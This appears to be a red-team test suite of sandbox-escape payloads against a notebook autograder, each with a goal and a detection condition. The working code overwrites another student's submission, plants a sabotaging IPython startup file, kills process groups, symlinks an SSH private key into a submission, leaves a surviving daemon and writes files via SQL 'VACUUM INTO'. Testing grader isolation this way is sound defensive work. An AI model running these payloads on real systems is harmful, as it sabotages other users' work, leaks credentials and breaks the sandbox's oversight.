# id: e01_rewrite_other_submission
# category: escape
# goal: overwrite another student's submission
# place: q1
# detect: other is not None and other < MAX
import os, glob, json

p = os.getcwd()
for _ in range(8):
    for f in glob.glob(p + "/submitted/zoe/*/*.ipynb"):
        nb = json.load(open(f))
        for c in nb["cells"]:
            if c["metadata"].get("nbgrader", {}).get("solution"):
                c["source"] = "raise SystemExit"
        json.dump(nb, open(f, "w"))
    p = os.path.dirname(p)
q1_sql = "select 1"

# id: e02_ipython_startup
# category: escape
# goal: plant an IPython startup file so that every later submission's kernel runs attacker code
# place: q1
# detect: other is not None and other < MAX
import os

d = os.path.expanduser("~/.ipython/profile_default/startup")
os.makedirs(d, exist_ok=True)
open(d + "/00-x.py", "w").write(
    "import sqlite3, hmac\nhmac.new = None\nclass _C:\n    def __init__(s, *a): raise SystemExit\nsqlite3.connect = _C\n"
)
q1_sql = "select 1"

# id: e05_kill_group
# category: escape
# goal: signal the whole process group / every process one may signal
# place: q1
# detect: other is None or autograde_rc not in (0,)
# note: a pid namespace alone does not stop kill(0): the process group is shared unless the child calls setsid()
import os, signal

signal.signal(signal.SIGTERM, signal.SIG_IGN)
try:
    os.killpg(0, signal.SIGTERM)
except OSError as e:
    print(e)
for p in [int(x) for x in os.listdir("/proc") if x.isdigit()]:
    if p not in (os.getpid(), 1):
        try:
            os.kill(p, signal.SIGTERM)
        except OSError:
            pass
q1_sql = "select 1"

# id: e07_symlink_file
# category: escape
# goal: ship a symlink in the submission that points at a private file; the grader copies its target
# place: notebook
# detect: 'CANARY-SSHKEY' in autograded('notes.txt')
# %% mutate
import os


def mutate_files():
    os.symlink("/home/sbxuser/.ssh/id_rsa", SUB + "/notes.txt")

# id: e10_survivor_daemon
# category: escape
# goal: leave a detached process running after grading
# place: q1
# detect: len(alive) > 0
import subprocess, sys

subprocess.Popen(
    [sys.executable, "-c", "import time; time.sleep(40)"],
    start_new_session=True,
    stdin=-3,
    stdout=-3,
    stderr=-3,
)
q1_sql = "select 1"

# id: e12_sql_vacuum_into
# category: escape
# goal: pure SQL: write a file with VACUUM INTO
# place: q1
# detect: any('pwned' in k for k in home_changed+course_changed) or 'pwned' in loot
# note: only SQL text crosses in a two-process grader: it must be evaluated in a sandbox too, or behind an authorizer
import os

q1_sql = "vacuum into '" + os.path.expanduser("~") + "/pwned.db'"
